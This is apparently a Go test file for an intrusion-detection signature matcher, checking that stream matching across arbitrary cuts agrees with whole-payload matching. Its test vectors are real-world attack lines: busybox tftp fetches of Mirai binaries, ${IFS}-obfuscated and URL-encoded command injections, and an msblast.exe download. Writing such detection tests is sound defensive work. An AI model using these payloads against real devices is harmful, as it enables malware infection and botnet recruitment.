package signatures

import (
	"bytes"
	"slices"
	"testing"
)

// streamSigs reads data as a stream cut at the given offsets, carrying
// every byte (the caller's bound is not MatchStream's business), and
// returns the signatures found, in order.
func streamSigs(s *Set, port uint16, data []byte, cuts ...int) []string {
	var c StreamCursor
	var out []string
	carried := []byte{}
	prev := 0
	for i, k := range append(cuts, len(data)) {
		if k < prev || k > len(data) {
			continue
		}
		window := append(append([]byte{}, carried...), data[prev:k]...)
		end := i == len(cuts)
		s.MatchStream(TCP, port, window, len(carried), end, &c, func(m PayloadMatch) bool {
			out = append(out, m.Signature.ID)
			return true
		})
		if c.Open < 0 || c.Open > len(window) {
			panic("cursor out of the window")
		}
		keep := len(window) - max(s.MaxContent(TCP)-1, 0)
		if !c.Lost {
			keep = min(keep, c.Open)
		}
		keep = max(keep, 0)
		carried = window[keep:]
		if c.Lost {
			c.Open = 0
		} else {
			c.Open -= keep
		}
		prev = k
	}
	return out
}

func wholeSigs(s *Set, port uint16, data []byte) []string {
	var out []string
	s.MatchPayloads(TCP, port, data, func(m PayloadMatch) bool {
		out = append(out, m.Signature.ID)
		return true
	})
	return out
}

// TestMatchStreamSplits: a line cut at every offset gives what the whole
// line gives, once.
func TestMatchStreamSplits(t *testing.T) {
	s := Default()
	for _, c := range []struct {
		port uint16
		line string
	}{
		{23, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; echo\r\n"},
		{80, "x=`cd${IFS}/tmp;tftp${IFS}-r${IFS}ukloltftp2.sh${IFS}-g${IFS}10.0.0.9`"},
		{8080, "cmd=cd%20/tmp%3Bbusybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9%3Bsh HTTP/1.1\r\n"},
		{23, "\xff\xfd\x01\xff\xfb\x03tftp 10.0.0.9 -c get tftp1.sh\r\n"},
		{4444, "tftp -i 10.0.0.9 GET msblast.exe\r\n"},
		{23, "tftp -g -r t\xff\xff.sh 10.0.0.9\r\n"},
	} {
		want := wholeSigs(s, c.port, []byte(c.line))
		if len(want) != 1 {
			t.Fatalf("%q: whole %v", c.line, want)
		}
		for k := 1; k < len(c.line); k++ {
			if got := streamSigs(s, c.port, []byte(c.line), k); !slices.Equal(got, want) {
				t.Errorf("%q cut at %d: %v, want %v", c.line, k, got, want)
			}
		}
	}
}

// FuzzMatchStream: a payload read as one segment of a stream that ends
// there finds what MatchPayloads finds; cut anywhere, nothing panics and
// the cursor stays in its window; cut only after separators in plain text
// (where no decoding joins bytes across the cut), it finds nothing the
// whole payload does not.
func FuzzMatchStream(f *testing.F) {
	f.Add([]byte("/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; echo\r\n"), uint16(23), 10, 30)
	f.Add([]byte("x=`cd${IFS}/tmp;tftp${IFS}-r${IFS}ukloltftp2.sh${IFS}-g${IFS}1`"), uint16(80), 20, 21)
	f.Add([]byte("tftp -i 1.2.3.4 GET msblast.exe\r\ntftp -g -r x 1\n"), uint16(4444), 3, 40)
	f.Add([]byte("a%20tftp%20-c%20get%20tftp1.sh\xff\xfb"), uint16(8080), 5, 6)
	s := Default()
	f.Fuzz(func(t *testing.T, data []byte, port uint16, a, b int) {
		whole := wholeSigs(s, port, data)
		var c StreamCursor
		var one []string
		s.MatchStream(TCP, port, data, 0, true, &c, func(m PayloadMatch) bool {
			one = append(one, m.Signature.ID)
			return true
		})
		if !slices.Equal(one, whole) {
			t.Fatalf("one segment %v, MatchPayloads %v", one, whole)
		}
		if len(data) == 0 {
			return
		}
		a, b = (a%len(data)+len(data))%len(data), (b%len(data)+len(data))%len(data)
		cuts := []int{min(a, b), max(a, b)}
		split := streamSigs(s, port, data, cuts...)
		plain := !bytes.ContainsAny(data, "%$\\") && bytes.IndexByte(data, 0xff) < 0
		for _, k := range cuts {
			plain = plain && (k == 0 || isShellSep(data[k-1]))
		}
		if plain {
			for _, sig := range split {
				if !slices.Contains(whole, sig) {
					t.Fatalf("cut at %v after separators: %v, whole %v", cuts, split, whole)
				}
			}
		}
	})
}
